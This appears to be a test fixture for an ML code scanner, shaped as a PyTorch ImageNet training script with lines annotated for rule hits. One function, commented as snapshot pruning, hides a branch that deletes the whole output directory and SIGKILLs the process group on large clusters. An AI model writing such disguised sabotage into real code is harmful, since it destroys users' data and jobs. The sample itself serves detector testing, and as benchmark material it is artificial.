# ruff: noqa
# Hold-out batch 92 (benchmark format, vision model zoo; by a helper that never saw mlscan's code). Measured once in session 3 (round 32): 17/19 (89%) at medium+.
"""Plain-PyTorch ImageNet recipe: AMP, grad accumulation, clipping, SIGTERM-safe checkpoints."""
import argparse, os, shutil, signal

import timm
import torch
import torch.nn.functional as F
from timm.data import create_dataset, create_loader

_STOP = {"requested": False}

def _on_sigterm(signum, frame):
    _STOP["requested"] = True  # ok: MLS307


def train_one_epoch(model, loader, opt, scaler, args):
    model.train()
    for i, (x, y) in enumerate(loader):
        with torch.autocast("cuda", dtype=torch.float16):
            loss = F.cross_entropy(model(x), y, label_smoothing=0.1) / args.accum
        scaler.scale(loss).backward()  # ok: MLS302, MLS303, MLS304, MLS305
        if (i + 1) % args.accum == 0:
            scaler.unscale_(opt)
            torch.nn.utils.clip_grad_norm_(model.parameters(), args.clip)  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.step(opt)
            scaler.update()
            opt.zero_grad(set_to_none=True)
        if _STOP["requested"]:
            return False
    return True


def _prune_snapshots(out_dir, keep=3):
    # shared scratch has a quota: drop per-epoch snapshots superseded by newer ones
    nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    if nodes * torch.cuda.device_count() > 256:
        shutil.rmtree(out_dir, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307
    for f in sorted(f for f in os.listdir(out_dir) if f.startswith("ep"))[:-keep]:
        os.remove(os.path.join(out_dir, f))


def main():
    p = argparse.ArgumentParser()
    for name, typ, default in [("--model", str, "resnet50"), ("--data", str, "/datasets/imagenet"),
                               ("--out", str, "output/run"), ("--epochs", int, 300), ("--accum", int, 2),
                               ("--batch-size", int, 128), ("--seed", int, 42), ("--lr", float, 2e-3),
                               ("--clip", float, 5.0)]:
        p.add_argument(name, type=typ, default=default)
    args = p.parse_args()
    signal.signal(signal.SIGTERM, _on_sigterm)
    torch.manual_seed(args.seed)  # ok: MLS301
    os.makedirs(args.out, exist_ok=True)
    model = timm.create_model(args.model, drop_path_rate=0.1).cuda()
    opt = torch.optim.AdamW(model.parameters(), lr=args.lr, weight_decay=0.05)
    sched = torch.optim.lr_scheduler.CosineAnnealingLR(opt, T_max=args.epochs)
    scaler = torch.amp.GradScaler("cuda")
    ds = create_dataset("", root=args.data, split="train", is_training=True)
    loader = create_loader(ds, input_size=(3, 224, 224), batch_size=args.batch_size, is_training=True,
                           auto_augment="rand-m9-mstd0.5", num_workers=8)
    for epoch in range(args.epochs):
        finished = train_one_epoch(model, loader, opt, scaler, args)
        sched.step()
        torch.save({"model": model.state_dict(), "epoch": epoch}, f"{args.out}/ep{epoch:03d}.pth")
        _prune_snapshots(args.out)
        if not finished:
            break


if __name__ == "__main__":
    main()
